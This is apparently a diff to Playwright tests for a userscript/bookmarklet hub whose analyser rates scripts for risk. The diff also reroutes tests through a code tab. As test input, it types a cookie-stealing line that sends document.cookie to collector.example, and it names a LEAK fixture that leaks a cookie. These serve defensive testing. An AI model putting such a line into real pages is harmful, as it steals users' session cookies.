@@ -1,5 +1,6 @@
 import { expect, type Page, test } from "@playwright/test";
 import { expectNoViolations } from "../support/axe.ts";
+import { openCodeTab, showCodeTab } from "../support/code-tab.ts";
 import { hubOrigin, publishableKey, signIn, watchForErrors } from "../support/hub.ts";
 
 const LEAK = `const words = document.title.split(" ");
@@ -63,6 +64,7 @@ test("a script that leaks a cookie is High Risk with the line; fixed it is Low, 
 }) => {
 	const errors = watchForErrors(page);
 	await signIn(page, "Arthur Author", "/create");
+	await showCodeTab(page);
 	await describe(page, "Title word count");
 	await write(page, LEAK);
 	// Independent of the speed of the analysis: the page first gets the state without a report.
@@ -105,11 +107,13 @@ test("marks appear while typing; a syntax error is 'Not rated' with the reason, 
 	page,
 }) => {
 	const errors = watchForErrors(page);
-	const asked: string[] = [];
+	// The Copilot tab asks which models there are: an address without a body.
+	const sent: string[] = [];
 	page.on("request", (request) => {
-		if (/\/functions\/v1\//.test(request.url())) asked.push(request.url());
+		if (request.url().startsWith(hubOrigin()) && request.method() !== "GET") sent.push(request.url());
+		if (request.url().includes("collector")) sent.push(request.url());
 	});
-	await page.goto(`${hubOrigin()}/create`);
+	await openCodeTab(page);
 	await code(page).click();
 	await code(page).pressSequentially('fetch("https://collector.example/?" + document.cookie);');
 	await expect(marks(page)).toHaveCount(1);
@@ -134,7 +138,7 @@ test("marks appear while typing; a syntax error is 'Not rated' with the reason, 
 	await expect(panel).toContainText(/Line 2/);
 	await expect(panel).not.toContainText(/Score|Low Risk/);
 	// Unsaved code stays private: nothing is sent to the hub.
-	expect(asked).toEqual([]);
+	expect(sent).toEqual([]);
 	expect(errors).toEqual([]);
 });
 
@@ -156,7 +160,7 @@ test("a check that hangs, crashes or cannot be loaded is 'Not rated', and editin
 		await page.route(/analysis-worker/, (route) =>
 			body === null ? route.fulfill({ status: 404 }) : route.fulfill({ contentType: "text/javascript", body }),
 		);
-		await page.goto(`${hubOrigin()}/create`);
+		await openCodeTab(page);
 		await code(page).click();
 		await code(page).pressSequentially("alert(1)");
 		await expect(check(page)).toContainText("Not rated");
@@ -170,7 +174,7 @@ test("a check that hangs, crashes or cannot be loaded is 'Not rated', and editin
 test("input persists as a draft over a reload, and over a sign-in before the save", { tag: "@soak" }, async ({
 	page,
 }) => {
-	await page.goto(`${hubOrigin()}/create`);
+	await openCodeTab(page);
 	await describe(page, "Words before sign-in");
 	await write(page, HARMLESS);
 	await expect.poll(() => keptCode(page)).toBe(HARMLESS);
@@ -194,13 +198,14 @@ test("input persists as a draft over a reload, and over a sign-in before the sav
 	await expect(page.getByRole("heading", { level: 1, name: "Words before sign-in" })).toBeVisible();
 	// It is saved: nothing is left to restore.
 	await page.goto(`${hubOrigin()}/create`);
-	await expect(page.getByRole("heading", { level: 1, name: "Create a Bookmarklet" })).toBeVisible();
+	await expect(page.getByRole("heading", { level: 1, name: "Create a Userscript" })).toBeVisible();
 	await expect(page.getByLabel("Title")).toHaveValue("");
 	await expect(page.getByRole("button", { name: "Restore draft" })).toHaveCount(0);
 });
 
 test("only its owner can edit a script; concurrent saves lose no line", { tag: "@soak" }, async ({ page, browser }) => {
 	await signIn(page, "Arthur Author", "/create");
+	await showCodeTab(page);
 	await describe(page, "Saved from two windows");
 	await write(page, HARMLESS);
 	await page.getByRole("button", { name: "Create Bookmarklet" }).click();
